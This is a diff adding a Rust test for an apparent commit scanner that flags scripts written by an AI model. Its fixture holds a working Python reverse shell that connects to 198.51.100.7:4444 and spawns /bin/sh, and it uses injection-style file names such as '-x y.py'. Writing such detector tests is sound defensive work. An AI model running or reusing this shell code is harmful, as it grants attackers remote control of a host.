@@ -140,6 +140,42 @@ fn only_new_behaviour_is_a_finding() {
 }
 
 #[test]
+fn changed_scripts_are_scanned_and_no_others() {
+    let config = "schema = \"turnkey.gate-config/v1\"\n[scan]\nfail_at = 50\n[[model]]\nmessage = \"*a model*\"\n";
+    let shell = "import socket, subprocess, os
+s = socket.socket()
+s.connect(('198.51.100.7', 4444))
+os.dup2(s.fileno(), 0)
+os.dup2(s.fileno(), 1)
+subprocess.call(['/bin/sh', '-i'])
+";
+    let repository = TestRepository::new(config);
+    repository.commit("by hand", &[("old.py", shell)]);
+    repository.commit("by a model", &[("a\nb.py", "print(1)\n"), ("words", "x")]);
+    let gated = repository.gate("--json");
+    gated.expect(0);
+    let result = gated.result();
+    let notes = json!(["neither Python nor shell, and not scanned: words"]);
+    assert_eq!(result["notes"], notes, "{result}");
+    repository.commit("by a model", &[("-x y.py", shell)]);
+    let gated = repository.gate("--json");
+    gated.expect(1);
+    let result = gated.result();
+    let findings = result["checks"][0]["findings"].as_array().expect("a list");
+    assert!(!findings.is_empty(), "{result}");
+    assert!(
+        findings.iter().all(|it| it["path"] == "-x y.py"),
+        "{result}"
+    );
+    // Deeper than a scan goes.
+    let deep = "d/".repeat(60);
+    std::fs::create_dir_all(repository.at(&deep)).expect("directories");
+    std::fs::remove_file(repository.at("-x y.py")).expect("it is there");
+    repository.commit("by a model", &[(&format!("{deep}a.py"), shell)]);
+    repository.gate("").expect(120);
+}
+
+#[test]
 fn a_merge_hides_nothing_and_a_path_is_a_sign_whoever_wrote_it() {
     let config = unrunnable().replace("[[tests]]", "[[model]]\npath = \"made/*\"\n[[tests]]");
     let repository = TestRepository::new(&config);
